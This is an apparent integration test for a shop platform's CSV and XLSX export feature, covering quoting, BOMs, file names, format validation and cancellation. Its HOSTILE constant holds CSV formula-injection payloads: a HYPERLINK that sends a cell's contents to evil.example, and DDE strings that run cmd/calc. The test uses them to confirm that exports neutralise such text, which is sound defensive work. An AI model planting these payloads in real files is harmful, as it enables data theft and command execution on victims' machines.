import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { orders } from "../../server/src/db/schema";
import { translator } from "../../server/src/lib/i18n";
import { ledgerSheet, orderSheet, productSheet, sheetTimes } from "../../server/src/modules/export-task/export-rows";
import { runExportsOnce } from "../../server/src/modules/export-task/export-task.worker";
import { postBalanceChange } from "../../server/src/modules/ledger/ledger.service";
import {
  call,
  closeTestApp,
  EN,
  EXPORT_LIST,
  expectFieldErrors,
  expectOk,
  exportKill,
  exportTaskRow,
  type Lang,
  ZH,
} from "../support/api-helpers";
import { asXmlText, CSV, csvFieldOfCell, FORMULA_START, parseCsv, readCsv } from "../support/csv-fixtures";
import { downloadForm, exportPath, readCells, XLSX } from "../support/export-fixtures";
import { fund, openShop, type Shop } from "../support/order-fixtures";
import { startTestApp, type TestApp } from "../support/test-app";
import { engines } from "../support/test-db";

/** Text that a spreadsheet would run as a formula if a CSV held it as it is (OWASP's examples and kin). */
const HOSTILE = {
  equals: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  plus: "+1+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: "\t=1+1",
  carriageReturn: "\r=1+1",
  fullWidth: "＝1+1",
};
/** Text a CSV must quote (a comma, quotes, a line break) and Chinese text (the BOM tells Excel it is UTF-8). */
const AWKWARD = 'Room 5, "Blue" building\nsecond line 中文';

describe.each(engines)("CSV exports on %s", (engine) => {
  let t: TestApp;
  let shop: Shop;
  beforeAll(async () => {
    t = await startTestApp(engine);
    shop = await openShop(t, { balance: "500" });
    await fund(t, shop.merchantId, "10.005");
    // A negative amount (a number: it stays as it is) whose remark starts with "-" (text: it is neutralised).
    await postBalanceChange(t.deps.db, {
      merchantId: shop.merchantId,
      type: "reduce",
      amount: "-12.5",
      remark: HOSTILE.minus,
      at: t.clock.now(),
    });
    await postBalanceChange(t.deps.db, {
      merchantId: shop.merchantId,
      type: "add",
      amount: "1",
      remark: AWKWARD,
      at: t.clock.now(),
    });
    const hostile = Object.values(HOSTILE);
    for (const [i, text] of hostile.entries()) {
      const res = await call(t, "POST", "/portal/merchant/api/order", {
        token: shop.token,
        payload: {
          productId: shop.topup.productId,
          skuId: shop.topup.skuId,
          merchantOrderNo: `CSV-${i}`,
          inputs: { account: `1380000000${i}` },
        },
      });
      const { orderNo } = expectOk<{ orderNo: string }>(res);
      // What an order number could hold if a merchant's system sent it (the API refuses it; a file must not trust that).
      await t.deps.db
        .update(orders)
        .set({ merchantOrderNo: text, rechargeAccount: i === 0 ? AWKWARD : `1380000000${i}` })
        .where(eq(orders.orderNo, orderNo));
      t.clock.advance(1_000);
    }
  });
  afterAll(() => closeTestApp(t));

  const queue = async (type: "product" | "order" | "transaction", query: string, lang: Lang) =>
    expectOk<number>(await call(t, "GET", `${exportPath(type)}${query}`, { token: shop.token, lang }), lang);

  /** The same export as XLSX and as CSV, both run by the worker; answers both downloads. */
  async function exportBoth(type: "product" | "order" | "transaction", query: string, lang: Lang) {
    const sep = query ? "&" : "?";
    const xlsxId = await queue(type, query, lang);
    const csvId = await queue(type, `${query}${sep}format=csv`, lang);
    expect(await exportTaskRow(t, xlsxId)).toMatchObject({ format: "xlsx", status: 0 });
    expect(await exportTaskRow(t, csvId)).toMatchObject({ format: "csv", status: 0 });
    expect(await runExportsOnce(t.deps, { batchRows: 2 })).toBe(2);
    expect((await exportTaskRow(t, csvId))?.fileKey).toMatch(/^exports\/.+\.csv$/);
    return {
      csvId,
      xlsx: await downloadForm(t, xlsxId, shop.token, lang),
      csv: await downloadForm(t, csvId, shop.token, lang),
    };
  }

  const layouts = { order: orderSheet, transaction: ledgerSheet, product: productSheet } as const;

  describe.each(["order", "transaction", "product"] as const)("%s", (type) => {
    it.each([EN, ZH] as Lang[])(
      "writes the XLSX's headers and values, with a BOM, RFC 4180 quoting and no formulas (%s)",
      async (lang) => {
        const { xlsx, csv } = await exportBoth(type, type === "product" ? "" : "?timeZone=Asia%2FShanghai", lang);
        expect(csv.statusCode).toBe(200);
        expect(csv.headers["content-type"]).toBe(CSV);
        expect(xlsx.headers["content-type"]).toBe(XLSX);
        const header = layouts[type].header(translator(lang), sheetTimes(type === "product" ? null : "Asia/Shanghai"));
        const cells = await readCells(xlsx, header.length);
        const { rows } = readCsv(csv);
        expect(rows[0]).toEqual(header);
        expect(rows.map((row) => row.map(asXmlText))).toEqual(cells.map((row) => row.map(csvFieldOfCell)));
        expect(rows.length).toBeGreaterThan(1);
        // No field a spreadsheet would run: only a number (a negative amount) may start with "-".
        for (const field of rows.flat()) if (!/^-?\d+(\.\d+)?$/.test(field)) expect(field).not.toMatch(FORMULA_START);
      },
    );
  });

  it("neutralises formula-like text with an apostrophe, and leaves numbers (negative ones too) as they are", async () => {
    for (const lang of [EN, ZH] as Lang[]) {
      const orderFiles = await exportBoth("order", "", lang);
      const orderRows = readCsv(orderFiles.csv).rows;
      const xlsxRows = (await readCells(orderFiles.xlsx, orderRows[0]!.length)).map((r) => r.map((c) => c.value));
      // The XLSX keeps each text exactly (its text cells are never formulas); the CSV writes it after an apostrophe.
      const column = (rows: unknown[][], index: number) => rows.slice(1).map((r) => r[index]);
      expect(column(xlsxRows, 1).sort()).toEqual(Object.values(HOSTILE).map(asXmlText).sort());
      expect(column(orderRows, 1).sort()).toEqual(
        Object.values(HOSTILE)
          .map((text) => `'${text}`)
          .sort(),
      );
      // Amounts of orders: numbers with the currency's decimals.
      expect(new Set(column(orderRows, 10))).toEqual(new Set(["10.00"]));

      const ledger = readCsv((await exportBoth("transaction", "", lang)).csv).rows;
      const reduced = ledger.find((r) => r[5] === "-12.50");
      expect(reduced?.[9]).toBe(`'${HOSTILE.minus}`);
      expect(ledger.some((r) => r[5] === "-10.00")).toBe(true); // the orders' deductions
      expect(ledger.find((r) => r[9] === AWKWARD)?.[5]).toBe("1.00");
      expect(ledger.find((r) => r[5] === "10.01")).toBeDefined(); // 10.005 rounds half up, as in the XLSX
    }
  });

  it("quotes as RFC 4180 says, and names the file .csv in both languages", async () => {
    const { csv, csvId } = await exportBoth("order", "", EN);
    const { text } = readCsv(csv);
    const created = (await exportTaskRow(t, csvId))!.createdAt.toISOString();
    const stamp = created.slice(0, 19).replace(/[-:]/g, "").replace("T", "-");
    expect(csv.headers["content-disposition"]).toBe(
      `attachment; filename="orders-${stamp}.csv"; filename*=UTF-8''Orders-${stamp}.csv`,
    );
    const zh = await downloadForm(t, csvId, shop.token, ZH);
    expect(zh.headers["content-disposition"]).toBe(
      `attachment; filename="orders-${stamp}.csv"; filename*=UTF-8''${encodeURIComponent("订单")}-${stamp}.csv`,
    );
    expect(zh.rawPayload.equals(csv.rawPayload)).toBe(true); // the file is written once, in the asked language
    // The exact bytes: the header line, a quoted field with its quotes doubled and its line break kept.
    expect(text.startsWith(`${orderSheet.header(translator(EN), sheetTimes(null)).join(",")}\r\n`)).toBe(true);
    expect(text).toContain(',"Room 5, ""Blue"" building\nsecond line 中文",');
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
    expect(text).toContain(`,"'${HOSTILE.carriageReturn}",`);
    expect(text).toContain(`,'${HOSTILE.tab},`);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(parseCsv(text)).toHaveLength(Object.keys(HOSTILE).length + 1);
  });

  it("shows each task's format in the list", async () => {
    const xlsxId = await queue("product", "", EN);
    const csvId = await queue("product", "?format=csv", EN);
    const page = expectOk<{ list: { id: number; format: string }[] }>(
      await call(t, "GET", EXPORT_LIST, { token: shop.token, lang: EN }),
      EN,
    );
    expect(page.list.find((task) => task.id === xlsxId)?.format).toBe("xlsx");
    expect(page.list.find((task) => task.id === csvId)?.format).toBe("csv");
    await runExportsOnce(t.deps);
  });

  it.each([EN, ZH] as Lang[])("refuses an unknown format with a field error (%s)", async (lang) => {
    const message = { [EN]: "Please choose one of the options", [ZH]: "请从选项中选择" }[lang];
    for (const format of ["pdf", "CSV", "", "xlsx,csv"]) {
      expectFieldErrors(
        await call(t, "GET", `${exportPath("order")}?format=${encodeURIComponent(format)}`, {
          token: shop.token,
          lang,
        }),
        { format: message },
      );
    }
    expect(await runExportsOnce(t.deps)).toBe(0);
  });

  it("terminating a running CSV export stops it and removes its partial file", async () => {
    const id = await queue("transaction", "?format=csv", EN);
    let partial: string | null = null;
    await runExportsOnce(t.deps, {
      batchRows: 2,
      afterBatch: async (taskId) => {
        if (partial) return;
        partial = (await exportTaskRow(t, taskId))!.fileKey;
        expectOk(await call(t, "PATCH", exportKill(taskId), { token: shop.token }));
      },
    });
    expect(partial).toMatch(/\.csv$/);
    expect(await t.deps.storage.readStream(partial!)).toBeNull();
    expect(await exportTaskRow(t, id)).toMatchObject({ status: 3, format: "csv" });
  });
});
